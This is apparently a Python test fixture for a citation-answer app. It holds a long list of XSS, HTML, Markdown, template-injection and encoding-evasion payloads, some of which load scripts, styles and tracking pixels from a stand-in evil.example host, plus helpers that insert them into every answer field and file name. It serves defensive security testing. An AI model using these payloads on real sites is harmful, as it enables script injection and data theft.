"""Texts that run, fetch or break something where they are taken for markup, styles, addresses or code. What runs sets `window.ran`."""

from collections.abc import Iterator
from typing import Any

_RUN = "window.ran=1"
_MARKUP = f"""
<script>{_RUN}</script>
<ScRiPt >{_RUN}</sCrIpT>
<script src=//evil.example/x.js></script>
<script src=data:text/javascript,{_RUN}></script>
<script type=module>{_RUN}</script>
<img src=x onerror={_RUN}>
<img src=x onerror="{_RUN}" style=display:none>
<IMG SRC=x ONERROR={_RUN}//
<img src=//evil.example/pixel.png>
<img srcset="//evil.example/pixel.png 1x">
<image href=x onerror={_RUN}>
<svg onload={_RUN}>
<svg/onload={_RUN}>
<svg><script>{_RUN}</script></svg>
<svg><animate onbegin={_RUN} attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}>#x">
<svg><style><img src=x onerror={_RUN}></style>
<math><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">
<math href=javascript:{_RUN}>x</math>
<details open ontoggle={_RUN}>
<video src=x onerror={_RUN}>
<video><source onerror={_RUN}>
<audio src=//evil.example/a.mp3 autoplay>
<body onload={_RUN}>
<iframe src=javascript:{_RUN}>
<iframe srcdoc="<script>parent.ran=1</script>">
<iframe src=//evil.example/>
<object data=javascript:{_RUN}>
<embed src=javascript:{_RUN}>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example/">
<form action=javascript:{_RUN}><button>x
<input autofocus onfocus={_RUN}>
<textarea autofocus onfocus={_RUN}>
<select autofocus onfocus={_RUN}>
<marquee onstart={_RUN}>
<a href=javascript:{_RUN}>x</a>
<a href="java&#x09;script:{_RUN}">x</a>
<a href="data:text/html,<script>{_RUN}</script>">x</a>
<template><script>{_RUN}</script></template>
<noscript><p title="</noscript><img src=x onerror={_RUN}>">
<style>*{{background:url(//evil.example/)}}</style>
<div style="width:expression({_RUN})">
<div style="background:url(//evil.example/x)">
<p onpointerover={_RUN}>x
<footnote-chat endpoint=//evil.example/ open>
<slot onslotchange={_RUN}>
<xss onfocus={_RUN} tabindex=1 autofocus>
<!--><img src=x onerror={_RUN}>-->
<![CDATA[><img src=x onerror={_RUN}>]]>
&lt;img src=x onerror={_RUN}&gt;
&#60;script&#62;{_RUN}&#60;/script&#62;
\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e
\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e
%3Cscript%3E{_RUN}%3C/script%3E
+ADw-script+AD4-{_RUN}+ADw-/script+AD4-
<scr<script>ipt>{_RUN}</scr</script>ipt>
<<script>{_RUN}//<</script>
< script>{_RUN}</script>
<script\u2028>{_RUN}</script>
<img\u00a0src=x onerror={_RUN}>
\u202e>tpircs/<1=nar.wodniw>tpircs<
javascript:{_RUN}
JaVaScRiPt:{_RUN}
vbscript:{_RUN}
data:text/html,<script>{_RUN}</script>
//evil.example/%2e%2e
https://good.example@evil.example/
https://xn--80ak6aa92e.example/
![x](//evil.example/pixel.png)
[x](javascript:{_RUN})
[x]: javascript:{_RUN}
```mermaid graph TD; A-->B; click A href "javascript:{_RUN}" ```
$\\href{{javascript:{_RUN}}}{{x}}$
{{{{constructor.constructor('{_RUN}')()}}}}
${{{_RUN}}}
#{{{_RUN}}}
<%= {_RUN} %>
';{_RUN};//
";{_RUN};//
`;{_RUN};//
\\";{_RUN};//
</script><script>{_RUN}</script>
]]></script><script>{_RUN}</script>
__proto__
constructor
[object Object]
$& $` $' $1
{{}}
undefined
=HYPERLINK("//evil.example/","x")
""".strip().split("\n")

_CLOSING = ["", "\"'>", "</textarea></title></style></script></template></noscript>-->"]
PAYLOADS = [before + payload for before in _CLOSING for payload in _MARKUP]


def laced_answer(answer: dict[str, Any], payload: str) -> dict[str, Any]:
    """An answer with a payload in every text of it."""
    texts = {"question": payload, "standalone_question": f"{payload}?", "text": payload, "notes": [payload], "id": payload}
    document = {"id": payload, "title": payload, "source": payload, "sha256": payload}
    citation = {**answer["citations"][0], "document": document, "section": [payload], "url": payload}
    citation |= {"quote": payload, "prefix": payload, "suffix": payload}
    sentence = {"text": payload, "start": 0, "end": 9, "citations": [1], "support": "verbatim", "highlights": [[1, 3]], "context": False}
    conflict = {"citations": [1, 1], "kind": "numbers"}
    return {**answer, **texts, "sentences": [sentence], "citations": [citation], "conflicts": [conflict]}


def laced_files() -> Iterator[tuple[str, bytes]]:
    """(name, content) of Markdown files with a payload each in name, title, section and text."""
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "∕")[:80]
        text = f"# {payload}\n\n## {payload}\n\nThe quokka{number} digs {number} burrows {payload} in the sand.\n"
        yield f"{number} {name}.md", text.encode()
